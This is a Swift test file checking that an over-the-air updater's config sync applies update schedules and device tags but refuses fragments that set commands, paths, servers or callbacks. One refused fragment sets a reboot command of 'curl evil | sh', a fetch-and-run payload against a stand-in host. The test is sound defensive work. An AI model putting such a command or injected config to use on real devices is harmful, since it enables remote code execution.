import Foundation
import HTTP
import Testing
@testable import Updater

/// The gateway's config layer (`/var/lib/otter/conf.d`): what it may set, and that a refused
/// config leaves the layer as it was.
@Suite struct DeviceConfigSyncTests {
    let root = NSTemporaryDirectory() + "otter-config-sync-" + UUID().uuidString

    func sync() throws -> DeviceConfigSync {
        try FileManager.default.createDirectory(atPath: root, withIntermediateDirectories: true)
        return DeviceConfigSync(gatewayURL: "https://127.0.0.1:1", client: HTTPClient(configuration: .init()),
                                configuration: try OtterConfiguration.load(root: root))
    }

    func layer() -> [String] {
        ((try? FileManager.default.contentsOfDirectory(atPath: root + "/var/lib/otter/conf.d")) ?? []).filter { $0.hasSuffix(".toml") }.sorted()
    }

    @Test func schedulesAndNamesAreAppliedAndCommandsPathsAndServersAreRefused() throws {
        defer { try? FileManager.default.removeItem(atPath: root) }
        let sync = try sync()
        let windows = "[update]\nwindows = [\"Mon-Fri 02:00-04:00\"]\npoll_interval = 600\n[device]\ntag = \"beta\"\n"
        #expect(try sync.apply(["otter-update-windows.toml": windows], lastModified: nil))
        #expect(layer() == ["otter-update-windows.toml"])
        let config = try OtterConfiguration.load(root: root)
        #expect(config.device.tag == "beta")

        for (key, fragment) in [
            ("update.reboot_command", "[update]\nreboot_command = [\"/bin/sh\", \"-c\", \"curl evil | sh\"]\n"),
            ("health.required_dirs", "[health]\nrequired_dirs = [\"/tmp\"]\n"),
            ("apps.compose_command", "[apps]\ncompose_command = [\"/tmp/x\"]\n"),
            ("servers.tuf_url", "[servers]\ntuf_url = \"https://elsewhere.example/repo\"\n"),
            ("bootloader.backend", "[bootloader]\nbackend = \"file\"\n"),
            ("callbacks.program", "[callbacks]\nprogram = \"/tmp/hook\"\n"),
        ] {
            let error = #expect(throws: UpdaterError.self, "\(key)") {
                try sync.apply(["otter-update-windows.toml": windows, "more.toml": fragment], lastModified: nil)
            }
            #expect(error?.description.contains("more.toml sets \(key)") == true, "\(error.map { "\($0)" } ?? "")")
            // Refused as a whole: the layer keeps the config applied before.
            #expect(layer() == ["otter-update-windows.toml"])
            #expect(try String(contentsOfFile: root + "/var/lib/otter/conf.d/otter-update-windows.toml", encoding: .utf8) == windows)
        }
    }
}
